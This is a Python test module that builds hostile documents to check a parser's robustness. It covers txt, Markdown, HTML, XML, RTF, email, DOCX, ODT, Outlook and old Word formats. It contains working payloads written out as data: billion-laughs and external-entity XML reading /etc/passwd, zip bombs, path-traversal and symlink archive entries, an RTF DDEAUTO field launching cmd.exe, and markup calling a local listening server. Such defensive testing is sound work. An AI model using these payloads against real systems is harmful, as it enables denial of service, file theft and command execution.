"""Documents made to do harm: bombs, loops, bottomless nesting, lies about size, and calls home.

They call on the server of :mod:`tests.makers.listening`.
"""

from __future__ import annotations

import base64
import functools
import io
import struct
import zipfile
from collections.abc import Callable, Iterator

from tests.makers import bases, hostile_pdf
from tests.makers.bases import BASES, NOTE, TITLE, W, zipped
from tests.makers.listening import ADDRESS
from tests.makers.mutations import members_of, mutated
from tests.makers.ole import Tree, ole

DEEP = 10_000
_HOME = ADDRESS.encode()
Made = Iterator[tuple[str, bytes]]

_LAUGHS = "<!DOCTYPE x [" + "".join(
    f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "haha"}">' for n in range(12)
) + "]>"  # fmt: skip
_BLOWN = f'<!DOCTYPE x [<!ENTITY a "{"a" * 50_000}">]>'
_FILE = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
_WEB = f'<!DOCTYPE x [<!ENTITY e SYSTEM "http://{ADDRESS}/e">]>'
_DTD = f'<!DOCTYPE x SYSTEM "http://{ADDRESS}/x.dtd">'
_PARAMETER = f'<!DOCTYPE x [<!ENTITY % p SYSTEM "http://{ADDRESS}/p"> %p;]>'
_SELF = '<!DOCTYPE x [<!ENTITY a "&b;"><!ENTITY b "&a;">]>'
_ENTITIES = (
    ("laughs", _LAUGHS, "&l11;"),
    ("blown up", _BLOWN, "&a;" * 20_000),
    ("a file", _FILE, "&e;"),
    ("the web", _WEB, "&e;"),
    ("a definition elsewhere", _DTD, "x"),
    ("a parameter", _PARAMETER, "x"),
    ("itself", _SELF, "&a;"),
)


def documents(suffix: str, count: int) -> Made:
    """``count`` documents with names that end in ``suffix``."""
    made = list(_SPECIAL.get(suffix, _nothing)())
    if suffix in (".docx", ".odt", ".zip"):
        made += _archives(suffix)
    made += _anything()
    yield from ((f"{what}{suffix}", data) for what, data in made)
    left = count - len(made)
    for number, data in enumerate(mutated(BASES[suffix](), max(0, left), seed=len(suffix))):
        yield f"schade {number}{suffix}", data


def _nothing() -> Made:
    yield from ()


def _anything() -> Made:
    """What may come under any name."""
    yield "leeg", b""
    yield "nullen", bytes(100_000)
    yield "alle bytes", bytes(range(256)) * 400
    yield "een regel", b"dijken " * 150_000
    yield "regels", b"\n" * 100_000
    yield "haakjes", b"(" * 100_000
    yield "surrogaten", b"Verslag \xed\xa0\x80\xed\xb0\x80 van de top\n" * 50
    yield "utf-32", f"{TITLE}\n".encode("utf-32") * 50
    yield "merkteken", b"\xff\xfe"
    yield "oneven", b"\xff\xfe" + TITLE.encode("utf-16-le") + b"x"
    yield "richtingen", ("\u202e\u2067" + TITLE + "\u200f\n").encode() * 500
    yield "streepjes", b"woord-\n" * 10_000
    yield "cijfers", b"1.1.1.1.1.1.1.1.1.1.1 \n\n" * 5_000
    yield "voetnoten", b"".join(b"[%d] noot [%d]\n\n" % (n, n + 1) for n in range(3_000))


def _text() -> Made:
    yield "pagina's", b"\x0cPagina 1 van 2\n" * 5_000
    yield "kolommen", (b"links" + b" " * 40 + b"rechts\n") * 5_000
    yield "sterretjes", b"* " * 50_000
    yield "verwijzingen", b"Kamerstuk 28 676, nr. 433 en 36 045, nr. 12. " * 3_000
    yield "bedragen", b"EUR 1.000.000,00 miljard en 2% van het bbp. " * 3_000
    yield "combinaties", ("a" + "\u0301" * 50_000).encode()


def _markdown() -> Made:
    yield "citaten", b">" * DEEP + b" diep\n"
    yield "lijsten", b"".join(b" " * n + b"- x\n" for n in range(1_000))
    yield "lijsten in citaten", b"> - " * 3_000 + b"x"
    yield "haken", b"[" * 50_000
    yield "haken en meer", b"[a](" * 20_000
    yield "nadruk", b"*a _b " * 20_000
    yield "apostrofs", b"`" * 30_000 + b"a" + b"`" * 29_999
    yield "tabel", b"|a" * 3_000 + b"|\n" + b"|-" * 3_000 + b"|\n" + b"|x" * 3_000 + b"|\n"
    yield "noten", b"".join(b"[^%d]: zie [^%d]\n\n" % (n, n + 1) for n in range(2_000))
    yield "noot in zichzelf", b"tekst[^a]\n\n[^a]: zie[^a]\n"
    yield "html", b"<div>" * DEEP + b"x"
    yield "plaatje", b"![x](http://%s/x.png) <img src='http://%s/y.png'>\n" % (_HOME, _HOME)
    yield "bestand", b"![x](file:///etc/passwd) [x](\\\\127.0.0.1\\share)\n"


def _html() -> Made:
    for tag in ("div", "table", "ul", "blockquote", "span", "b", "font", "sup", "main", "p", "a"):
        yield f"diep {tag}", bases.html(f"<{tag}>" * DEEP + TITLE)
    yield "tabellen", bases.html("<table><tr><td>" * DEEP + TITLE)
    yield "lijsten", bases.html("<ul><li>x" * DEEP)
    yield "sluiters", bases.html("</div></p></table>" * DEEP)
    yield "brede cel", bases.html('<table><tr><td colspan=999999999 rowspan="-1">x</table>')
    yield "begin", bases.html('<ol start=99999999999999999999 type="i"><li value="1e9">x</ol>')
    yield "rijen", bases.html("<table>" + "<tr><td>x<td>y" * 20_000 + "</table>")
    yield "eigenschappen", bases.html("<p " + " ".join(f"a{n}=1" for n in range(20_000)) + ">x")
    yield "opmerking", bases.html("<!--" * 20_000)
    yield "script", bases.html("<script>" + "while(1){}" * 100 + "</script><p>x")
    yield "koppelingen", bases.html("<a href='javascript:alert(1)'>x</a><a href='\\\\h\\s'>y</a>")
    home = ADDRESS
    calls = (
        f"<img src='http://{home}/a'><iframe src='http://{home}/b'></iframe>"
        f"<object data='http://{home}/c'></object><embed src='http://{home}/d'>"
        f"<script src='http://{home}/e'></script><video poster='http://{home}/f'></video>"
        f"<img src='//{home}/g'><img src='\\\\{home}\\h'><img src='file:///etc/passwd'>"
    )
    head = (
        f"<base href='http://{home}/'><link rel=stylesheet href='http://{home}/i'>"
        f"<meta http-equiv=refresh content='0;url=http://{home}/j'>"
        f"<style>@import url(http://{home}/k)</style>"
    )
    yield "roept naar huis", bases.html(calls + TITLE, head)
    for what, doctype, use in _ENTITIES:
        xhtml = f'<html xmlns="http://www.w3.org/1999/xhtml"><body><p>{use}</p></body></html>'
        yield what, f'<?xml version="1.0"?>{doctype}{xhtml}'.encode()
    for charset in ("utf-7", "utf-16", "idna", "rot13", "zlib", "unicode_escape", "../../x"):
        yield (
            f"tekens {charset.replace('/', '-')}",
            bases.html("x\u00e9" * 50).replace(b"charset='utf-8'", f"charset='{charset}'".encode()),
        )
    data = base64.b64encode(b"x" * 300_000).decode()
    yield "binnen", bases.html(f"<img src='data:image/png;base64,{data}'>{TITLE}")


def _official() -> Made:
    for what, doctype, use in _ENTITIES:
        yield what, bases.official(f"<al>{use}</al>", doctype)
    for tag in ("al", "lijst", "tekst", "noot", "table", "nadruk", "onbekend"):
        yield f"diep {tag}", bases.official(f"<{tag}>" * DEEP + "x" + f"</{tag}>" * DEEP)
        yield f"ondiep {tag}", bases.official(f"<{tag}>" * 200 + "x" + f"</{tag}>" * 200)
    yield "lijsten", bases.official("<lijst><li><al>x" * 2_000 + "</al></li></lijst>" * 2_000)
    include = f'<x xmlns:i="http://www.w3.org/2001/XInclude"><i:include href="http://{ADDRESS}/"/><i:include href="file:///etc/passwd" parse="text"/></x>'  # noqa: E501  # as in a file
    yield "invoegen", bases.official(include)
    yield (
        "opmaak",
        bases.official(doctype=f'<?xml-stylesheet type="text/xsl" href="http://{ADDRESS}/x"?>'),
    )
    yield "namen", bases.official("".join(f'<a{n} xmlns:n{n}="u{n}"/>' for n in range(5_000)))
    yield "codering", bases.official().replace(b"UTF-8", b"UTF-16")
    yield "onbekende codering", bases.official().replace(b"UTF-8", b"x-nosuch")
    yield (
        "cel",
        bases.official(
            '<table><tgroup cols="999999999"><tbody><row><entry namest="c1" nameend="c999999999" '
            'morerows="99999999">x</entry></row></tbody></tgroup></table>'
        ),
    )
    yield "noten", bases.official("<al>x<noot id='a'><noot.al>y</noot.al></noot></al>" * 3_000)


def _rtf() -> Made:
    home = ADDRESS
    bodies = {
        "diep": "{" * 100_000,
        "diep en terug": "{" * DEEP + "x" + "}" * DEEP,
        "sluiters": "}" * DEEP + "x",
        "binair": r"\bin99999999999 x",
        "min": r"\bin-5 x\par y",
        "tekens": r"\uc999999999\u-1?\u65533 x\u99999999999 y",
        "surrogaten": r"\u55357?\u-10179 x\u56832?",
        "hex": r"\'zz\'\'4" + "\\",
        "getallen": r"\li99999999999999999999\fs-999999 x",
        "woord": "\\" + "a" * 100_000,
        "rijen": r"\trowd\cellx1\intbl x\cell\row" * 10_000,
        "tabel in tabel": r"{\trowd\itap%d\intbl x\nestcell}" * 2_000,
        "noot in noot": r"{\footnote x" * 3_000,
        "plaatje": rf"{{\field{{\*\fldinst INCLUDEPICTURE \"http://{home}/x.png\"}}}}x",
        "bestand": rf"{{\field{{\*\fldinst INCLUDETEXT \"file:///etc/passwd\"}}}}"
        rf"{{\*\template http://{home}/t.dot}}x",
        "voorwerp": r"{\object\objautlink\objupdate{\*\objdata " + "41" * 50_000 + "}}x",
        "dde": r'{\field{\*\fldinst DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/c calc"}}x',
        "lijsten": r"{\*\listtable" + r"{\list{\listlevel{\leveltext \'02;}}}" * 5_000 + "}x",
        "bladwijzers": r"{\*\bkmkstart a}" * 20_000 + "x",
        "koppelingen": r'{\field{\*\fldinst HYPERLINK "javascript:x"}{\fldrslt y}}' * 2_000,
        "tabs": r"\tab" * 100_000,
        "tekstpaar": r"{\upr{x}{\*\ud{y" * 2_000,
    }
    for what, body in bodies.items():
        yield what, bases.rtf(body)
    yield "tekenset", bases.rtf().replace(b"ansicpg1252", b"ansicpg99999")
    yield "zonder einde", bases.rtf()[:-1]


def _eml() -> Made:
    head = "From: a@b\nTo: c@d\nSubject: x\nDate: Sat, 3 May 2031 10:00:00 +0200\n"
    nested = "".join(
        f"Content-Type: multipart/mixed; boundary=b{n}\n\n--b{n}\n" for n in range(1_000)
    )
    yield "delen in delen", f"{head}{nested}\n\nx".encode()
    message = head + "\nx"
    for _ in range(60):
        message = f"{head}Content-Type: message/rfc822\n\n{message}"
    yield "bericht in bericht", message.encode()
    same = "Content-Type: multipart/mixed; boundary=b\n\n--b\n" * 300
    yield "zelfde grens", f"{head}{same}x".encode()
    yield "lange kop", f"{head}X: {'y' * 500_000}\n\nx".encode()
    yield "veel koppen", (head + "X: y\n" * 20_000 + "\nx").encode()
    yield "woorden", (f"Subject: {'=?utf-8?b?w6k=?= ' * 5_000}\n{head}\nx").encode()
    yield "woorden half", (f"Subject: {'=?utf-8?q?' * 20_000}\n{head}\nx").encode()
    yield "adressen", (f"To: {'a@b, ' * 5_000}\n{head}\nx").encode()
    yield "adres", (f"From: {'(' * 1_000}x\nTo: {'<' * 1_000}\nSubject: x\n\nx").encode()
    for charset in ("../../x", "idna", "rot13", "zlib_codec", "unicode_escape", "utf-7", "x" * 999):
        kind = f"Content-Type: text/plain; charset={charset}\n"
        yield f"tekens {charset[:9].replace('/', '-')}", f"{head}{kind}\nx\\u0041 ".encode()
    yield "base64", f"{head}Content-Transfer-Encoding: base64\n\n{'!' * 10_000}".encode()
    yield "uu", f"{head}Content-Transfer-Encoding: x-uuencode\n\nbegin 644 /etc/x\n#".encode()
    yield "citaat", f"{head}Content-Transfer-Encoding: quoted-printable\n\n{'=' * 50_000}".encode()
    parameter = "; ".join(f"name*{n}*=utf-8''x" for n in range(3_000))
    yield "naam in stukken", f"{head}Content-Type: text/plain; {parameter}\n\nx".encode()
    names = ("../../kwaad.txt", "/etc/kwaad.txt", "C:\\kwaad.txt", "a\x00b.txt", "x" * 999, "..")
    parts = "".join(
        f'--b\nContent-Disposition: attachment; filename="{name}"\n\nVerslag van de top.\n'
        for name in names * 200
    )
    mixed = "MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n"
    yield "bijlagen", f"{head}{mixed}{parts}--b--\n".encode()
    outside = f'Content-Type: message/external-body; access-type=URL; URL="http://{ADDRESS}/"\n\n'
    yield "elders", f"{head}{outside}\n".encode()
    for number, (what, page) in enumerate(_html()):
        if number % 6 == 0 or "huis" in what:
            kind = b"Content-Type: text/html; charset=utf-8\n\n"
            yield f"pagina {what}", head.encode() + kind + page
    yield "zonder kop", b"\n\n" + NOTE.encode()
    yield "datum", head.replace("Sat, 3 May 2031", "99 Foo 99999").encode() + b"\nx"


def _docx() -> Made:
    home = ADDRESS

    def made(body: str = "", **others: str) -> bytes:
        return zipped(bases.docx_members(body, **others))

    paragraph = "<w:p><w:r><w:t>x</w:t></w:r></w:p>"
    for what, doctype, use in _ENTITIES:
        members = bases.docx_members(f"<w:p><w:r><w:t>{use}</w:t></w:r></w:p>")
        whole = str(members["word/document.xml"]).replace("?>", f"?>{doctype}", 1)
        yield what, zipped(members | {"word/document.xml": whole})
        whole = str(members["word/styles.xml"]).replace("?>", f"?>{doctype}", 1)
        yield f"{what} in stijlen", zipped(members | {"word/styles.xml": whole})
    for depth in (80, DEEP):
        table = "<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>"
        yield f"tabellen {depth}", made(table[0] * depth + paragraph + table[1] * depth)
        box = "<w:sdt><w:sdtContent>", "</w:sdtContent></w:sdt>"
        yield f"velden {depth}", made(box[0] * depth + paragraph + box[1] * depth)
        link = "<w:hyperlink w:anchor='a'>", "</w:hyperlink>"
        yield (
            f"links {depth}",
            made(f"<w:p>{link[0] * depth}<w:r><w:t>x</w:t></w:r>{link[1] * depth}</w:p>"),
        )
    yield "alinea's", made("<w:p/>" * 30_000)
    yield "stukjes", made("<w:p>" + "<w:r><w:t>x</w:t></w:r>" * 20_000 + "</w:p>")
    loop = "".join(
        f'<w:style w:type="paragraph" w:styleId="S{n}"><w:name w:val="s{n}"/>'
        f'<w:basedOn w:val="S{1 - n}"/></w:style>'
        for n in range(2)
    )
    styled = '<w:p><w:pPr><w:pStyle w:val="S0"/></w:pPr><w:r><w:t>x</w:t></w:r></w:p>'
    yield "stijlen in een kring", made(styled, styles=f'<w:styles xmlns:w="{W}">{loop}</w:styles>')
    numbering = (
        f'<w:numbering xmlns:w="{W}"><w:abstractNum w:abstractNumId="0"><w:numStyleLink '
        'w:val="L"/><w:lvl w:ilvl="99999"><w:start w:val="-99999999999"/><w:numFmt '
        'w:val="cardinalText"/><w:lvlText w:val="%1%2%3%9%99"/></w:lvl></w:abstractNum>'
        '<w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num></w:numbering>'
    )
    listed = (
        '<w:p><w:pPr><w:numPr><w:ilvl w:val="{}"/><w:numId w:val="1"/></w:numPr></w:pPr>'
        "<w:r><w:t>x</w:t></w:r></w:p>"
    )
    levels = "".join(listed.format(level) for level in (0, 8, 99999, -1, 999999999))
    yield "nummering", made(levels, numbering=numbering)
    yield "diepe lijst", made("".join(listed.format(n) for n in range(2_000)), numbering=numbering)
    notes = (
        f'<w:footnotes xmlns:w="{W}"><w:footnote w:id="2"><w:p><w:r><w:t>x</w:t></w:r><w:r>'
        '<w:footnoteReference w:id="2"/></w:r></w:p></w:footnote></w:footnotes>'
    )
    yield "noot in zichzelf", made(footnotes=notes)
    remarks = f'<w:comments xmlns:w="{W}">' + (
        '<w:comment w:id="1"><w:p><w:r><w:commentReference w:id="1"/></w:r></w:p></w:comment>' * 500
    )
    yield (
        "opmerkingen",
        made(
            '<w:commentRangeStart w:id="1"/>' * 500
            + "<w:p><w:r><w:t>x</w:t><w:commentReference w:id='1'/></w:r></w:p>",
            comments=remarks + "</w:comments>",
        ),
    )
    yield (
        "breed",
        made(
            '<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="999999999"/><w:vMerge/></w:tcPr>'
            f"{paragraph}</w:tc></w:tr></w:tbl>"
        ),
    )
    members = bases.docx_members()
    away = "".join(
        f'<Relationship Id="x{n}" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        f'relationships/{kind}" Target="{target}" TargetMode="External"/>'
        for n, (kind, target) in enumerate(
            (kind, target)
            for kind in ("attachedTemplate", "image", "oleObject", "subDocument", "styles")
            for target in (f"http://{home}/x", r"\\127.0.0.1\share\x", "file:///etc/passwd")
        )
    )
    links = str(members["word/_rels/document.xml.rels"]).replace("</Rel", f"{away}</Rel")
    picture = (
        '<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/'
        '2006/wordprocessingDrawing"><a:graphic xmlns:a="http://schemas.openxmlformats.org/'
        'drawingml/2006/main"><a:graphicData><pic:pic xmlns:pic="http://schemas.openxmlformats.org/'
        'drawingml/2006/picture"><pic:blipFill><a:blip r:link="x3" r:embed="x5"/></pic:blipFill>'
        "</pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>"
    )
    document = str(members["word/document.xml"]).replace("<w:body>", f"<w:body>{picture}")
    yield (
        "roept naar huis",
        zipped(members | {"word/_rels/document.xml.rels": links, "word/document.xml": document}),
    )
    up = '<Relationship Id="u" Type="x/image" Target="../../../../../etc/passwd"/>'
    outside = str(members["word/_rels/document.xml.rels"]).replace("</Rel", f"{up}</Rel")
    embedded = document.replace('r:embed="x5"', 'r:embed="u"')
    yield (
        "naar boven",
        zipped(members | {"word/_rels/document.xml.rels": outside, "word/document.xml": embedded}),
    )
    for name in members:
        yield (
            f"zonder {name.replace('/', '-')}",
            zipped({n: data for n, data in members.items() if n != name}),
        )
        yield f"leeg {name.replace('/', '-')}", zipped(members | {name: b""})
    yield "macro's", zipped(members | {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" * 100})


def _odt() -> Made:
    home = ADDRESS

    def made(body: str = "", styles: str = "", meta: str = "") -> bytes:
        return zipped(bases.odt_members(body, styles, meta), stored="mimetype")

    members = bases.odt_members("<text:p>ENTITY</text:p>")
    for what, doctype, use in _ENTITIES:
        for part in ("content.xml", "meta.xml", "META-INF/manifest.xml"):
            whole = str(members[part]).replace("?>", f"?>{doctype}", 1).replace("ENTITY", use)
            yield (
                f"{what} in {part.replace('/', '-')}",
                zipped(members | {part: whole}, stored="mimetype"),
            )
    frames = {
        "table:table": ("<table:table><table:table-row><table:table-cell>",
                        "</table:table-cell></table:table-row></table:table>"),
        "text:list": ("<text:list><text:list-item>", "</text:list-item></text:list>"),
        "text:section": ("<text:section>", "</text:section>"),
        "draw:frame": ("<text:p><draw:frame><draw:text-box>",
                       "</draw:text-box></draw:frame></text:p>"),
    }  # fmt: skip
    for what, (start, end) in frames.items():
        for depth in (60, DEEP):
            yield (
                f"diep {what.replace(':', ' ')} {depth}",
                made(start * depth + "<text:p>x</text:p>" + end * depth),
            )
    for depth in (200, DEEP):
        yield (
            f"diepe stukjes {depth}",
            made("<text:p>" + "<text:span>" * depth + "x" + "</text:span>" * depth + "</text:p>"),
        )
    note = "<text:note><text:note-body><text:p>x", "</text:p></text:note-body></text:note>"
    yield "noten in noten", made(f"<text:p>{note[0] * 60}{note[1] * 60}</text:p>")
    yield "spaties", made('<text:p>x<text:s text:c="999999999"/>y</text:p>')
    yield "min spaties", made('<text:p>x<text:s text:c="-5"/><text:s text:c="x"/>y</text:p>')
    for many in ("16777216", "999999999999", "-1", "x"):
        yield (
            f"cellen {many}",
            made(
                f'<table:table><table:table-row table:number-rows-repeated="{many}">'
                f'<table:table-cell table:number-columns-repeated="{many}" '
                f'table:number-columns-spanned="{many}">'
                "<text:p>x</text:p></table:table-cell></table:table-row></table:table>"
            ),
        )
    yield "diepte", made('<text:h text:outline-level="999999999">x</text:h><text:h>y</text:h>')
    loop = "".join(
        f'<style:style style:name="S{n}" style:parent-style-name="S{1 - n}"/>' for n in range(2)
    )
    yield "stijlen in een kring", made('<text:p text:style-name="S0">x</text:p>', loop)
    yield (
        "roept naar huis",
        made(
            f'<text:p><draw:frame><draw:image xlink:href="http://{home}/a"/></draw:frame>'
            f'<draw:object xlink:href="http://{home}/b"/><text:a xlink:href="http://{home}/c">x'
            f'</text:a></text:p><text:section><text:section-source xlink:href="http://{home}/d"/>'
            "</text:section><draw:image xlink:href='../../../../etc/passwd'/>"
        ),
    )
    yield "alinea's", made("<text:p/>" * 30_000)
    yield "eigenschappen", made(meta="<meta:user-defined>x</meta:user-defined>" * 5_000)
    yield "wijzigingen", made("<text:tracked-changes>" * 30 + "</text:tracked-changes>" * 30)
    members = bases.odt_members()
    for name in members:
        yield (
            f"zonder {name.replace('/', '-')}",
            zipped({n: data for n, data in members.items() if n != name}, stored="mimetype"),
        )
        yield f"leeg {name.replace('/', '-')}", zipped(members | {name: b""}, stored="mimetype")
    manifest = str(members["META-INF/manifest.xml"]).replace(
        "/></manifest", "><manifest:encryption-data/></manifest:file-entry></manifest"
    )
    yield "versleuteld", zipped(members | {"META-INF/manifest.xml": manifest}, stored="mimetype")


def _outlook() -> Made:
    tree = bases.outlook_tree()
    for _ in range(40):
        tree = bases.outlook_tree(tree)
    yield "bericht in bericht", ole(tree)
    yield "bijlagen", ole(bases.outlook_tree(*[bases.outlook_tree()] * 60))
    tree = bases.outlook_tree()
    yield "tekst", ole(tree | {"__substg1.0_1000001F": b"x\x00" * 2_000_000})
    yield "oneven", ole(tree | {"__substg1.0_1000001F": b"\x00\xd8" * 501 + b"x"})
    packed = struct.pack("<LL4sL", 30, 0x7FFFFFFF, b"LZFu", 0) + b"\xff" * 200
    rich = {n: d for n, d in tree.items() if "1000001F" not in n}
    yield "ingepakt", ole(rich | {"__substg1.0_10090102": packed})
    page = bases.html(f"<img src='http://{ADDRESS}/m'>" + "<div>" * DEEP + TITLE)
    yield "pagina", ole(rich | {"__substg1.0_10130102": page})
    yield from _containers(bases.outlook())


def _old_word() -> Made:
    yield from _containers(bases.old_word())
    yield "slot", ole({"WordDocument": b"\xff" * 4_096})
    yield "klein", ole({"WordDocument": b""})


def _containers(sound: bytes) -> Made:
    """OLE files whose chains of sectors lead nowhere, or round and round."""
    for at in range(0x18, 0x4C, 4):  # every number in the head
        for value in (0, 1, 0x7FFFFFFF, 0xFFFFFFFF):
            yield f"kop {at:x} {value:x}", sound[:at] + struct.pack("<I", value) + sound[at + 4 :]
    for sector in range(len(sound) // 512 - 1):
        start = 512 * (sector + 1)
        ring = struct.pack("<I", sector) * 128
        yield f"kring {sector}", sound[:start] + ring + sound[start + 512 :]
    deep: Tree = {"WordDocument": b"x"}
    for number in range(60):
        deep = {f"map {number}": deep}
    yield "diep", ole(deep)


def _archives(suffix: str) -> Made:
    """Archives that are no good as such, with the members of a sound document in them."""
    sound = BASES[suffix]()
    first = {".docx": "word/document.xml", ".odt": "content.xml", ".zip": "map/verslag.txt"}[suffix]
    yield "bom", zipped({first: _zeros()})
    yield "bom ernaast", _with(sound, {"media/x.bin": _zeros(), "bom.txt": _zeros()})
    yield "veel", _with(sound, dict.fromkeys((f"{n}.txt" for n in range(12_000)), b""))
    nest = sound
    for depth in range(25):
        nest = zipped({f"{depth}.zip": nest})
    yield "archief in archief", nest
    names = ("../../kwaad.txt", "/etc/kwaad.txt", "C:\\kwaad.txt", "a/../../kwaad.txt",
             "\\\\h\\s\\kwaad.txt", "x" * 5_000 + ".txt", "nieuwe\nregel.txt", "con.txt", "..",
             "\ud83d\ude00.txt".encode("utf-16", "surrogatepass").decode("utf-16"))  # fmt: skip
    yield "paden", _with(sound, dict.fromkeys(names, bases.text()))
    yield "koppeling", _with_link(sound)
    yield "dubbel", sound[: sound.rindex(b"PK\x01\x02")] + sound
    yield "voorvoegsel", b"MZ" + bytes(5_000) + sound
    yield "toevoegsel", sound + bytes(5_000)
    directory = sound.index(b"PK\x01\x02")
    for what, at, value in (
        ("groot", 24, struct.pack("<I", 0xFFFFFFF0)),
        ("klein", 24, struct.pack("<I", 1)),
        ("lang ingepakt", 20, struct.pack("<I", 0xFFFFFFF0)),
        ("elders", 42, struct.pack("<I", 0x7FFFFFFF)),
        ("gesloten", 8, struct.pack("<H", 1)),
        ("wijze", 10, struct.pack("<H", 99)),
        ("controle", 16, struct.pack("<I", 0)),
        ("naam", 28, struct.pack("<H", 0xFFFF)),
    ):
        spot = directory + at
        yield f"kop {what}", sound[:spot] + value + sound[spot + len(value) :]
    yield "overlap", _overlapping(sound)
    end = sound.rindex(b"PK\x05\x06")
    yield "telling", sound[: end + 8] + b"\xff\xff\xff\xff" + sound[end + 12 :]


@functools.cache
def _zeros() -> bytes:
    return bytes(60_000_000)


def _with(sound: bytes, more: dict[str, bytes]) -> bytes:
    return zipped(members_of(sound) | more, stored="mimetype")


def _with_link(sound: bytes) -> bytes:
    made = io.BytesIO(sound)
    with zipfile.ZipFile(made, "a") as archive:
        info = zipfile.ZipInfo("koppeling.txt")
        info.create_system = 3
        info.external_attr = 0o120777 << 16
        archive.writestr(info, "/etc/passwd")
    return made.getvalue()


def _overlapping(sound: bytes) -> bytes:
    """A directory with one and the same entry a thousand times."""
    start = sound.index(b"PK\x01\x02")
    end = sound.rindex(b"PK\x05\x06")
    after = sound.find(b"PK\x01\x02", start + 4)
    entry = sound[start : after if after > 0 else end]
    directory = entry * 1_000
    tail = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1_000, 1_000, len(directory), start, 0)
    return sound[:start] + directory + tail


_SPECIAL: dict[str, Callable[[], Made]] = {
    ".txt": _text,
    ".md": _markdown,
    ".html": _html,
    ".xml": _official,
    ".rtf": _rtf,
    ".eml": _eml,
    ".docx": _docx,
    ".odt": _odt,
    ".pdf": hostile_pdf.documents,
    ".msg": _outlook,
    ".doc": _old_word,
}
